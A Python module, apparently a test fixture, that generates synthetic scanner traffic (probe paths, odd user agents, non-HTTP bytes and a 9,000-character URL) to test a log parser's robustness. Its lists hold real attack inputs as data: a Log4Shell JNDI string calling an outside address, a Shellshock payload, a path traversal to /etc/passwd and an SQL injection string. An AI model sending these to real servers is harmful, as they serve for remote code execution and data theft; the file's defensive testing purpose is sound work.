"""What scanners send: paths of programs that the shop does not run, and bytes that are no HTTP.

These are the lines at which a careless parser of logs breaks: quotes and backslashes in the user
agent, a request of one word, control characters, an empty user agent, a URL of 9,000 characters.
"""

from collections.abc import Iterator
from random import Random

PATHS = (
    *("/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/", "/xmlrpc.php", "/admin.php"),
    *("/cgi-bin/../../../../etc/passwd", "/book/1%27%20OR%201=1--", "/%ff%fe/index", "/vendor/"),
)
AGENTS = (
    "Mozilla/5.0 zgrab/0.x",
    "${jndi:ldap://198.51.100.7/a}",
    '"Mozilla/5.0" \\"quoted\\"',
    "() { :; }; /bin/echo 'shell'",
    "",
)
NO_HTTP = (
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\xa4\r\n",
    b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n",
    b"GET\r\n\r\n",
    b"SSH-2.0-Go\r\n",
    b'\x00\x0e8 probe "with quotes" \\x\r\n',
    b"GET /a page with spaces HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /old-browser\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
)


def requests(random: Random, host: str) -> Iterator[bytes]:
    """What one scanner sends, each on a connection of its own."""
    agent = random.choice(AGENTS)
    for path in random.sample(PATHS, random.randint(2, 6)):
        method = random.choice(("GET", "GET", "GET", "HEAD", "POST", "OPTIONS", "PROPFIND"))
        lines = [f"{method} {path} HTTP/1.1", f"Host: {host}"]
        lines += [f"User-Agent: {agent}"] if agent else []
        yield "\r\n".join([*lines, "", ""]).encode("latin-1")
    if random.random() < 0.6:
        yield random.choice(NO_HTTP)
    if random.random() < 0.1:
        padding = "A" * 9000
        yield f"GET /?{padding} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
